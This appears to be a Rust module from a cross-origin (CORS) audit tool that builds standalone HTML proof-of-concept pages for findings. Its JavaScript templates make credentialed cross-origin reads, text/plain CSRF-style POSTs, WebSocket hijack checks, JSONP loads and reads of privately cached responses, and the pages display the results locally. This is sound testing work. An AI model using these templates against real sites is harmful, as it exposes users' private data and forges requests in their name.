//! A page that shows a finding: one file, no other resource, to be opened from the witness origin.

use corsage_texts::{Language, text};

use super::class::Class;
use super::finding::{Finding, Reproduction};

/// The page for a finding; `None` where no page can show it.
///
/// It does what an attacker's page would do and shows on itself what it read; it sends nothing anywhere.
#[must_use]
pub fn proof_of_concept(target: &str, finding: &Finding, language: Language) -> Option<String> {
    let origin = finding.witness_origin.as_deref()?;
    let script = script(target, finding)?;
    let title = escape(&format!("{}: {}", finding.class.code(), finding.class.title(language)));
    let how = match origin {
        "null" => text!(language, "audit-report.poc-anywhere").to_owned(),
        _ => text!(language, "audit-report.poc-from", origin = escape(origin)),
    };
    let evidence = escape(&finding.evidence);
    let body = match origin {
        "null" => {
            // A sandboxed frame without allow-same-origin has the origin `null`.
            let inner = format!("<script>{script}</script>");
            format!(
                "<pre id=\"seen\"></pre>\n<script>addEventListener('message',e=>{{document.getElementById('seen')\
                 .textContent+=e.data+'\\n';}});</script>\n\
                 <iframe sandbox=\"allow-scripts\" srcdoc=\"{}\" hidden></iframe>",
                escape(&inner)
            )
        }
        _ => format!("<pre id=\"seen\"></pre>\n<script>{script}</script>"),
    };
    Some(format!(
        "<!doctype html>\n<html lang=\"{}\">\n<meta charset=\"utf-8\">\n<title>{title}</title>\n\
         <style>body{{font:16px/1.5 system-ui;max-width:60em;margin:2em auto;padding:0 1em}}\
         pre,iframe{{width:100%;min-height:16em;border:1px solid #888;white-space:pre-wrap;\
         overflow-wrap:anywhere;box-sizing:border-box}}</style>\n<h1>{title}</h1>\n<p>{evidence}</p>\n<p>{how}</p>\n{body}\n</html>\n",
        language.tag(),
    ))
}

fn script(target: &str, finding: &Finding) -> Option<String> {
    // A frame without an origin hands what it read to the page around it.
    let show = match finding.witness_origin.as_deref() {
        Some("null") => "const show=text=>parent.postMessage(text,'*');",
        _ => "const show=text=>{document.getElementById('seen').textContent+=text+'\\n';};",
    };
    let action = match finding.class {
        Class::WebSocketOrigin => {
            let url = &finding.reproduction.as_ref()?.url;
            let url = quote(&url.replacen("http", "ws", 1));
            format!(
                "const s=new WebSocket({url});s.onmessage=e=>show('read: '+e.data);\
                 s.onopen=()=>show('open');s.onerror=()=>show('refused');"
            )
        }
        Class::PreflightWider => format!(
            "fetch({},{{method:'PUT',credentials:'include',headers:{{'content-type':'application/json'}},body:'{{}}'}})\
             .then(r=>show('read: '+r.status),e=>show('sent, not read: '+e));",
            quote(target)
        ),
        Class::JsonAsText => {
            let url = finding.reproduction.as_ref().map_or(target, |it| &it.url);
            format!(
                "fetch({},{{method:'POST',mode:'no-cors',credentials:'include',headers:{{'content-type':'text/plain'}},body:'{{}}'}})\
                 .then(()=>show('sent, and executed'),e=>show('not sent: '+e));",
                quote(url)
            )
        }
        // The user's browser brings the answer into the cache; then anybody reads it there.
        Class::CachedPrivate => format!(
            "const url={}+'&page='+Date.now();\
             fetch(url,{{mode:'no-cors',credentials:'include',cache:'no-store'}})\
             .then(()=>fetch(url,{{credentials:'omit',cache:'no-store'}}))\
             .then(async r=>show('read: '+r.status+'\\n'+await r.text()),e=>show('blocked: '+e));",
            quote(&finding.reproduction.as_ref()?.url)
        ),
        Class::Jsonp => format!(
            "window.corsagewitness=data=>show('read: '+JSON.stringify(data));\
             const s=document.createElement('script');s.onerror=()=>show('blocked');s.src={};document.body.append(s);",
            quote(&finding.reproduction.as_ref()?.url)
        ),
        // No page chooses a version of HTTP.
        Class::IntendedRefused | Class::PreflightNarrower | Class::DriftVersion => return None,
        _ => read(finding.reproduction.as_ref()?, finding.with_credentials == Some(true)),
    };
    Some(format!("{show}{action}"))
}

/// Asks as the finding was made, and shows what a page may read. A connection that breaks off looks to a page like a
/// refusal: what changes nothing is asked three times.
fn read(shown: &Reproduction, with_credentials: bool) -> String {
    let headers: Vec<String> = shown
        .headers
        .iter()
        .map(|(name, value)| format!("{}:{}", quote(name), quote(value)))
        .collect();
    let (page, policy) = match &shown.page_path {
        Some(path) => (
            format!("history.replaceState(null,'',{});", quote(path)),
            ",referrerPolicy:'unsafe-url'",
        ),
        None => (String::new(), ""),
    };
    let more = if matches!(&*shown.method, "GET" | "HEAD") { 2 } else { 0 };
    format!(
        "{page}const ask=more=>fetch({},{{method:{},credentials:'{}',headers:{{{}}}{policy}}})\
         .catch(e=>{{if(!more)throw e;return new Promise(go=>setTimeout(go,300)).then(()=>ask(more-1));}});\
         ask({more}).then(async r=>show('read: '+r.status+'\\n'+[...r.headers].map(h=>h.join(': ')).join('\\n')+'\\n\\n'+await r.text()),\
         e=>show('blocked: '+e));",
        quote(&shown.url),
        quote(&shown.method),
        if with_credentials { "include" } else { "omit" },
        headers.join(","),
    )
}

/// A string of JavaScript that may stand in HTML.
fn quote(text: &str) -> String {
    let mut out = String::from("\"");
    for character in text.chars() {
        match character {
            '"' | '\\' => out.extend(['\\', character]),
            '<' | '>' | '&' | '\'' | '\u{2028}' | '\u{2029}' | '\0'..='\u{1f}' => {
                out.push_str(&format!("\\u{:04x}", u32::from(character)));
            }
            _ => out.push(character),
        }
    }
    out.push('"');
    out
}

/// Text that may stand in HTML, in an attribute too.
pub(crate) fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for character in text.chars() {
        match character {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            // What a server says must not steer a terminal or the direction of a line.
            '\0'..='\u{8}'
            | '\u{b}'..='\u{1f}'
            | '\u{7f}'..='\u{9f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2066}'..='\u{2069}' => out.push('\u{fffd}'),
            _ => out.push(character),
        }
    }
    out
}
